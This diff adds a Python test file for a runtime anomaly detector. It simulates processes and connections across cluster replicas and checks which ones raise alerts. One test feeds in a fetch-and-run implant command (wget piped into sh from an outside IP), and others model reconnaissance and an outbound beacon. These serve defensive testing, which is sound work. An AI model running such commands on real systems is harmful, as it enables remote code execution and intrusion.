@@ -1,0 +1,76 @@
+"""What is new in the first minutes, and what a workload does by itself now and then on any of its replicas."""
+
+from detection.cluster import Cluster, Replica, alerts, analyse
+from peerwatch.columns import Peer
+from peerwatch.subjects import Workload
+
+DATABASE = Peer("shop", Workload("Service", "db"))
+
+
+def job(cluster: Cluster, at: float, pod: Replica, script: str, *tools: str) -> None:
+    shell = cluster.exec(at, pod, "/usr/bin/dash", args=("sh", "-c", script))
+    for number, tool in enumerate(tools):
+        cluster.exec(at + 0.01 * (number + 1), pod, f"/usr/bin/{tool}", parent="/usr/bin/dash", parent_pid=shell)
+
+
+def test_a_job_of_its_own_that_wanders_over_the_replicas_is_told_at_most_once(cluster: Cluster) -> None:
+    pods = cluster.pods(5)
+    cluster.normal(pods, 0, 3000)
+    for turn in range(8):
+        job(cluster, 300.5 + turn * 330, pods[turn * 2 % 5], f"sed -n {turn}p /etc/app.conf | tee /run/line", "sed", "tee")
+
+    assert len(alerts(analyse(cluster, until=3100))) <= 1
+
+
+def test_a_rare_helper_in_the_first_minutes_is_no_alert(cluster: Cluster) -> None:
+    pods = cluster.pods(5)
+    cluster.normal(pods, 0, 300)
+    cluster.exec(90.5, pods[2], "/usr/bin/ffmpeg", args=("ffmpeg", "-i", "/uploads/x.mp4"))
+    job(cluster, 100.5, pods[3], "openssl dgst -sha256 /srv/x", "openssl")
+
+    assert alerts(analyse(cluster, until=400)) == []
+
+
+def test_a_shell_that_looks_around_in_the_second_minute_is_found(cluster: Cluster) -> None:
+    pods = cluster.pods(3)
+    cluster.normal(pods, 0, 300)
+    job(cluster, 70.5, pods[1], "id; uname -a", "id", "uname")
+
+    (alert,) = alerts(analyse(cluster, until=400))
+
+    assert [each.pod for each in alert.replicas] == ["cart-r1-1"]
+
+
+def test_an_implant_that_was_there_from_the_first_second_is_found(cluster: Cluster) -> None:
+    pods = cluster.pods(3)
+    cluster.normal(pods, 0, 600, every=10)
+    for second in range(1, 600, 60):
+        job(cluster, second + 0.3, pods[1], "wget -qO- http://203.0.113.9/x | sh", "wget")
+
+    (alert, *_) = alerts(analyse(cluster, until=700))
+
+    assert [each.pod for each in alert.replicas] == ["cart-r1-1"]
+
+
+def test_a_service_that_never_left_the_cluster_and_does_on_one_replica_is_found(cluster: Cluster) -> None:
+    pods = cluster.pods(4)
+    for second in range(1, 600, 5):
+        for pod in pods:
+            cluster.connect(second, pod, "/usr/bin/server", ("10.0.0.7", 5432), peer=DATABASE)
+    for second in range(400, 600, 15):
+        cluster.connect(second, pods[2], "/usr/bin/server", ("203.0.113.9", 443))
+
+    (alert,) = alerts(analyse(cluster, until=700))
+
+    assert [each.pod for each in alert.replicas] == ["cart-r1-2"]
+    assert alert.techniques == ("T1071.001",)
+
+
+def test_a_service_with_suppliers_outside_may_meet_another(cluster: Cluster) -> None:
+    pods = cluster.pods(4)
+    for second in range(1, 600, 5):
+        for pod in pods:
+            cluster.connect(second, pod, "/usr/bin/server", ("52.1.2.3", 443))
+    cluster.connect(400, pods[2], "/usr/bin/server", ("13.5.6.7", 443))
+
+    assert alerts(analyse(cluster, until=700)) == []
